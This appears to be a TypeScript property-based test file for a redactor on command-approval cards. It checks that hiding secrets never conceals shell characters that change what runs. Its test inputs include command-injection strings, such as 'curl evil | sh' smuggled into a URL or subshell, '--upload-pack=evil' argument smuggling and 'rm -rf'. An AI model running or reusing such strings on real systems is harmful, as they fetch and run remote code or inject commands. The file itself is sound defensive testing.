/**
 * What the redactor may hide on an approval card (core/hidden.ts): a secret's own characters,
 * never one that changes what runs. The property holds the rule to the card as it is finally
 * sent: whatever is not refused shows every such character the request holds.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cardBody } from '../../src/core/approvals.js';
import { hidesUnsafe, hidesUnsafeIn } from '../../src/core/hidden.js';
import { createRedactor, REDACTED } from '../../src/core/redact.js';
import { plainText } from '../../src/core/result.js';

const { redact } = createRedactor(['configured-secret-0123456789']);

/** The oracle's own list: whitespace, controls, and what ends, joins, expands, quotes or escapes in a shell. */
const UNSAFE = /[\s\u00a0\u2028\u2029\p{Cc}\p{Cf};|&$`<>\\#!{}*?'"⟩]/gu;
const counts = (s: string): Map<string, number> => {
  const m = new Map<string, number>();
  for (const [c] of s.split(REDACTED).join('').matchAll(UNSAFE)) m.set(c, (m.get(c) ?? 0) + 1);
  return m;
};

/** The card's text for one parameter: as fully shown (nothing redacted), and as finally sent. */
function card(place: string): { visible: string; sent: string; rendered: string } {
  const request = { action: 'x.poke', subject: 'x', params: { place }, preview: [] };
  const text = (r: (s: string) => string) => {
    const { target, body } = cardBody(request, r);
    return plainText({ blocks: [target, ...body] });
  };
  const rendered = text(redact);
  return { visible: text((s) => s), sent: redact(rendered), rendered };
}

const fragment = fc.constantFrom(
  'password=',
  'password:     ',
  'token=',
  'https://u:',
  '@github.com/x',
  'Bearer ',
  '--password ',
  'api_key: ',
  'mysql -u r -p',
  'configured-secret-0123456789',
  ' ',
  '\t',
  '\n',
  '\u00a0',
  ';',
  '|',
  '&',
  '$(',
  '`',
  '"',
  "'",
  '#',
  '{',
  '}',
  '\\',
  '<',
  'abc123',
  'hunter2hunter2',
  'Xy-9.z',
  '/tmp/x',
  'z.string()',
);

describe('hidesUnsafe', () => {
  it("refuses a line read as a key's body, hidden whole though it hides letters only", () => {
    const body = 'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunV';
    // Found by a review: a certificate line in a heredoc made the lines after it vanish from the card.
    expect(hidesUnsafe(`tee ca.b64 <<'EOF'\n${body}\nEOF\nreboot`, redact)).toBe(true);
    // A path of that shape on a line of its own reads as one too: refused rather than shown hidden.
    expect(hidesUnsafe('/opt/Acme/bin/RotateAllProductionCredentialsAndRestartEverythingNow2', redact)).toBe(true);
    expect(hidesUnsafe('/opt/acme/bin/rotate-all-credentials-and-restart-everything-now', redact)).toBe(false);
  });

  it('lets a card hide a secret, and nothing that changes what runs', () => {
    for (const s of [
      'password=hunter2hunter2',
      'https://ci:s3cr3t@github.com/x',
      'Bearer abcdefghijklmnop',
      'curl -H "Authorization: Bearer $API_TOKEN" x',
      // Passwords by reference after -p and -u: their quotes stay.
      'docker login -u me -p "$GHCR_TOKEN" ghcr.io',
      'sshpass -p "$SSHPASS" ssh deploy@host',
      'curl -u "user:$PASS" https://x',
    ])
      expect(hidesUnsafe(s, redact), s).toBe(false);
    for (const s of [
      'https://ci:x;curl${IFS}evil|sh;#@github.com/x',
      'export TOKEN="$(curl evil | sh)"',
      'password=$IFS--upload-pack=evil',
      'token=abc${IFS}--upload-pack=x',
    ])
      expect(hidesUnsafe(s, redact), s).toBe(true);
    expect(hidesUnsafe('no secret here; rm -rf x', redact)).toBe(false);
    expect(hidesUnsafeIn({ a: ['ok', { b: 'token=x;y' }] }, redact)).toBe(true);
    expect(hidesUnsafeIn({ 'token=x;y': 1 }, redact)).toBe(true);
  });

  it('a card not refused shows every such character of the request, as finally sent', () => {
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 12 }), (parts) => {
        const place = parts.join('');
        const { visible, sent, rendered } = card(place);
        fc.pre(!hidesUnsafe(place, redact) && !hidesUnsafe(rendered, redact));
        const shown = counts(sent);
        for (const [c, n] of counts(visible)) expect(shown.get(c) ?? 0, JSON.stringify({ place, c, sent })).toBe(n);
        expect(sent).not.toContain('configured-secret');
      }),
      { numRuns: 2000 },
    );
  });
});
